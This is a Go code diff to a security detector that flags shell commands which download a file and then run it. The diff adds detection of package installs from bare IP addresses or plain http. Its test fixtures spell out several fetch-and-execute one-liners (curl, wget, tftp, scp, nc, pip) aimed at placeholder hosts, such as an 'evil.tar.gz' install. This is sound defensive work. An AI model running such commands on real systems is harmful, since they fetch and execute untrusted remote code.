@@ -17,14 +17,14 @@ var runFetch = Detector{
 	Detect: fetchRun,
 	Fire: append(lines(coi.Warning,
 		"curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && /tmp/a", "wget https://example.com/x.sh; bash x.sh", "curl -sO https://example.com/atomic.sh; chmod +x atomic.sh | bash atomic.sh",
-		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q",
+		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "pip install http://203.0.113.7/evil.tar.gz", "wget -q http://203.0.113.7/a.sh -P /tmp && bash /tmp/a.sh", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q",
 	), Sample{Level: coi.Warning, Events: []event.Event{
 		{Type: event.Exec, PID: 5, PPID: 1, Exe: "/usr/bin/bash", Argv: []string{"bash"}},
 		{Type: event.Exec, PID: 6, PPID: 5, Exe: "/usr/bin/curl", Argv: []string{"curl", "-o", "/tmp/z", "https://example.com/z"}},
 		{Type: event.Write, PID: 6, Path: "/tmp/z", Op: "write"},
 		{Type: event.Exec, PID: 7, PPID: 5, Exe: "/tmp/z", Argv: []string{"/tmp/z"}},
 	}}),
-	Quiet: lines("", "curl -o x.tgz https://example.com/x.tgz && tar xf x.tgz", "npm ci && node index.js", "wget https://example.com/a.deb", "go install example.com/x@latest && x", "curl -LO https://example.com/data.csv; python3 analyse.py data.csv"),
+	Quiet: lines("", "pip install https://example.com/x.whl", "npm install --registry http://localhost:4873 x", "pip install --index-url http://203.0.113.7/simple x", "curl -o x.tgz https://example.com/x.tgz && tar xf x.tgz", "npm ci && node index.js", "wget https://example.com/a.deb", "go install example.com/x@latest && x", "curl -LO https://example.com/data.csv; python3 analyse.py data.csv"),
 }
 
 func fetchRun(ev event.Event, v track.View) []Finding {
@@ -35,6 +35,11 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 	for _, m := range v.Recent("fetch") {
 		if m.Path != "" && (m.Path == ev.Exe || m.Path == ev.ScriptPath) {
 			return one(Finding{Level: coi.Warning, Title: "file fetched moments ago is run", Path: m.Path, Command: cut(joined(ev.Argv), 400)})
+		}
+	}
+	for _, s := range c.Simples {
+		if h := strangePackage(s); h != "" {
+			return one(*say(s, coi.Warning, "package installed from a bare address").to(h))
 		}
 	}
 	got := map[string]bool{}
@@ -79,12 +84,32 @@ func fetchedFiles(s *command.Simple) []string {
 			for _, a := range s.Argv[1:] {
 				if strings.Contains(a, "://") {
 					a, _, _ = strings.Cut(a, "?")
-					out = append(out, s.Abs(a[strings.LastIndexByte(a, '/')+1:]))
+					dir := ""
+					if v := append(p.Values("P", "directory-prefix", "output-dir"), p.Values("d", "dir")...); len(v) > 0 && s.Name != "curl" {
+						dir = v[0] + "/"
+					} else if v := p.Values("output-dir"); len(v) > 0 {
+						dir = v[0] + "/"
+					}
+					out = append(out, s.Abs(dir+a[strings.LastIndexByte(a, '/')+1:]))
 				}
 			}
 		}
 	}
 	return out
+}
+
+// strangePackage is the host of a package that comes from a bare address or
+// over plain http, by link and not by name; "" when there is none.
+func strangePackage(s *command.Simple) string {
+	if s.Class() != program.Package || !s.Arg("install", "add", "i") {
+		return ""
+	}
+	for i, a := range s.Argv {
+		if h := command.HostOf(a); h != "" && i > 0 && !strings.HasPrefix(a, "-") && !strings.HasPrefix(s.Argv[i-1], "-") && !command.Loopback(h) && badSource(h, a) {
+			return h
+		}
+	}
+	return ""
 }
 
 // broughtFile is the file that tftp or a remote copy leaves behind.
